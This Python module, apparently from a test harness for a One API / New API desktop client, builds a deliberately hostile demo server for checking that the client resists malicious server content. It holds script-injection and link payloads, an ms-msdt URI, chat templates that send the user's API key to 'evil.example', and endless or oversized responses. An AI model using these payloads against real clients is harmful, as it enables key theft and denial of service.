"""A deliberately hostile site: what a compromised or malicious One API / New API server can send.

``DemoServer(hostile=True)`` (``python -m openkey_gui.demo --hostile``) keeps the API working, so a
client can sign in and list tokens, but every text the site controls is an attack:

- token names with markup, ``javascript:`` / ``file:`` links, bidi overrides and Qt mnemonics;
- server messages (success and failure envelopes) with markup and links;
- ``/api/status`` with a ``javascript:`` ``chat_link`` (One API's NextChat / LobeChat prefix) and New API
  ``chats`` templates that carry the key to ``javascript:``, ``file:``, ``ms-msdt:``, ``data:``, to a
  user-info part, or in the query string of a third-party https host.

Page answers can be made hostile on their own (``pages=`` or :meth:`DemoServer.set_hostile_pages`):

- ``"oversized"``: a valid envelope of ``page_bytes`` bytes with a Content-Length;
- ``"stream"``: the same body, chunked, so only counting the bytes read can stop it;
- ``"endless"``: a chunked body that never ends (until the client hangs up or the server stops);
- ``"endless-pages"``: every page is full of tokens never seen before and the total is a billion.

The filler is ``{}`` items (``shape="empty"``: each three bytes that Python turns into a ~64-byte
dict) or token-like objects about 250 bytes each (``shape="tokens"``: a large but plausible list).
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from openkey_gui.demo.flavors import ONE_API, FlavorRules
from openkey_gui.demo.wire import JSON_TYPE, Reply, Request, fail, json_reply

PAGE_MODES = ("oversized", "stream", "endless", "endless-pages")
SHAPES = ("empty", "tokens")
DEFAULT_PAGE_BYTES = 64 * 1024 * 1024
ENDLESS_TOTAL = 1_000_000_000
_CHUNK_BYTES = 256 * 1024
_TOKEN_ROUTES = ("/api/token", "/api/token/", "/api/token/search", "/api/token/search/")

# Names a site can give tokens; each must reach the user as the plain text it is.
HOSTILE_NAMES = (
    '<b>bold</b><img src="file:///etc/passwd">',
    '<a href="javascript:alert(document.cookie)">click me</a>',
    "javascript:alert(1)",
    "file:///etc/passwd",
    "<script>alert('x')</script>",
    "\u202eevil\u202c-name",  # right-to-left override
    "&Copy && paste",  # Qt mnemonics
    '<font color="red" size="72">HUGE</font>',
    "ms-msdt:/id PCWDiagnostic",
    "line\nbreak\ttab",
)

HOSTILE_MESSAGE = '<a href="javascript:alert(1)">Click here</a> <img src="file:///etc/passwd"> to continue'
HOSTILE_CHAT_LINK = "javascript:alert(document.cookie)//"
HOSTILE_CHATS = (
    {"Evil JS": "javascript:fetch('https://evil.example/?k={key}')//"},
    {"Evil Script": "JaVaScRiPt://%0afetch('https://evil.example/?k={key}')"},
    {"Evil File": "file:///C:/Windows/System32/calc.exe?k={key}&a={address}"},
    {"Evil MSDT": 'ms-msdt:/id PCWDiagnostic /param "IT_BrowseForFile=https://evil.example/{key}"'},
    {"Evil Data": "data:text/html,<script>location='https://evil.example/?k={key}'</script>"},
    {"Evil VBScript": "vbscript:msgbox('https://evil.example/{key}')"},
    {"Evil Userinfo": "https://{key}@evil.example/"},
    {"Evil Control": "\x01javascript:alert('https://evil.example/{key}')"},
    {"<b>Markup</b> Chat": "https://chat.evil.example/#/?key={key}&url={address}"},
    {"Query Chat": "https://chat.evil.example/?key={key}&url={address}"},
)


@dataclass
class PageAttack:
    mode: str
    page_bytes: int = DEFAULT_PAGE_BYTES
    shape: str = "empty"

    def __post_init__(self) -> None:
        if self.mode not in PAGE_MODES:
            raise ValueError(f"pages must be one of {PAGE_MODES}, not {self.mode!r}")
        if self.shape not in SHAPES:
            raise ValueError(f"shape must be one of {SHAPES}, not {self.shape!r}")
        if self.page_bytes < 64:
            raise ValueError("page_bytes is too small for an envelope")


def hostile_names(rows: list[dict[str, Any]]) -> None:
    """Rename the seeded rows in place (every other row, so normal names stay to compare with)."""
    for index, row in enumerate(rows[::2]):
        row["name"] = HOSTILE_NAMES[index % len(HOSTILE_NAMES)]


def hostile_status(data: dict[str, Any]) -> dict[str, Any]:
    """``/api/status`` data with every link and text the site controls turned into an attack."""
    data = dict(data)
    data["chat_link"] = HOSTILE_CHAT_LINK
    data["chats"] = [dict(chat) for chat in HOSTILE_CHATS]
    data["system_name"] = "<h1>Evil</h1><img src=file:///etc/passwd>"
    data["top_up_link"] = "javascript:alert(1)"
    data["footer_html"] = "<script>alert(1)</script>"
    data["notice"] = HOSTILE_MESSAGE
    return data


def hostile_reply(request: Request, reply: Reply) -> Reply:
    """The same reply with markup and links in its ``message``, and a hostile ``/api/status``."""
    if reply.stream is not None or not reply.body.startswith(b"{"):
        return reply
    try:
        payload = json.loads(reply.body)
    except ValueError:
        return reply
    if not isinstance(payload, dict) or "success" not in payload:
        return reply
    message = payload.get("message")
    payload["message"] = f"{HOSTILE_MESSAGE} {message}" if message else HOSTILE_MESSAGE
    if request.path.rstrip("/") == "/api/status" and isinstance(payload.get("data"), dict):
        payload["data"] = hostile_status(payload["data"])
    hostile = json_reply(payload, reply.status)
    hostile.headers = list(reply.headers)
    return hostile


def is_token_listing(request: Request) -> bool:
    return request.method == "GET" and request.path in _TOKEN_ROUTES


def page_reply(attack: PageAttack, flavor: FlavorRules, request: Request, template: dict[str, Any] | None) -> Reply:
    """The hostile answer to a token list or search request."""
    if attack.mode == "endless-pages":
        return _endless_page(flavor, request, template)
    prefix, suffix = _envelope_ends(flavor)
    item = _filler(attack.shape)
    if attack.mode == "endless":
        return Reply(status=200, content_type=JSON_TYPE, stream=_endless_body(prefix, item))
    count = max((attack.page_bytes - len(prefix) - len(suffix)) // (len(item) + 1), 1)
    length = len(prefix) + count * (len(item) + 1) - 1 + len(suffix)
    stream = _sized_body(prefix, item, count, suffix)
    return Reply(status=200, content_type=JSON_TYPE, stream=stream,
                 length=length if attack.mode == "oversized" else None)


def _envelope_ends(flavor: FlavorRules) -> tuple[bytes, bytes]:
    if flavor.name == ONE_API:
        return b'{"success":true,"message":"","data":[', b"]}"
    head = f'{{"success":true,"message":"","data":{{"page":1,"page_size":100,"total":{ENDLESS_TOTAL},"items":['
    return head.encode(), b"]}}"


def _filler(shape: str) -> bytes:
    if shape == "empty":
        return b"{}"
    token = {"id": 1, "name": "padding-" + "x" * 150, "key": "", "status": 1, "remain_quota": 0,
             "unlimited_quota": True, "used_quota": 0, "created_time": 0, "expired_time": -1}
    return json.dumps(token, separators=(",", ":")).encode()


def _sized_body(prefix: bytes, item: bytes, count: int, suffix: bytes) -> Iterator[bytes]:
    yield prefix
    per_chunk = max(_CHUNK_BYTES // (len(item) + 1), 1)
    chunk = (item + b",") * per_chunk
    remaining = count - 1  # the last item has no comma after it
    while remaining >= per_chunk:
        yield chunk
        remaining -= per_chunk
    if remaining:
        yield (item + b",") * remaining
    yield item + suffix


def _endless_body(prefix: bytes, item: bytes) -> Iterator[bytes]:
    yield prefix
    chunk = (item + b",") * max(_CHUNK_BYTES // (len(item) + 1), 1)
    while True:
        yield chunk


def _endless_page(flavor: FlavorRules, request: Request, template: dict[str, Any] | None) -> Reply:
    """A full page of tokens no earlier page had, whatever page is asked for; One API's search is refused."""
    if request.path.startswith("/api/token/search"):
        return fail("search is not available")  # the client falls back to walking the pages
    base = dict(template or {"name": "", "key": "", "status": 1, "remain_quota": 0, "unlimited_quota": True,
                             "used_quota": 0, "created_time": 0, "accessed_time": 0, "expired_time": -1})
    if flavor.name == ONE_API:
        page, size = max(_int(request.arg("p")), 0), 10
    else:
        page, size = max(_int(request.arg("p")), 1), min(max(_int(request.arg("page_size")), 1), 100)
    items = []
    for offset in range(size):
        token_id = 10_000_000 + page * size + offset
        row = {**base, "id": token_id, "name": f"endless-{token_id}"}
        items.append(flavor.render(row))
    if flavor.name == ONE_API:
        return json_reply({"success": True, "message": "", "data": items})
    data = {"page": page, "page_size": size, "total": ENDLESS_TOTAL, "items": items}
    return json_reply({"success": True, "message": "", "data": data})


def _int(text: str) -> int:
    try:
        return int(text)
    except ValueError:
        return 0
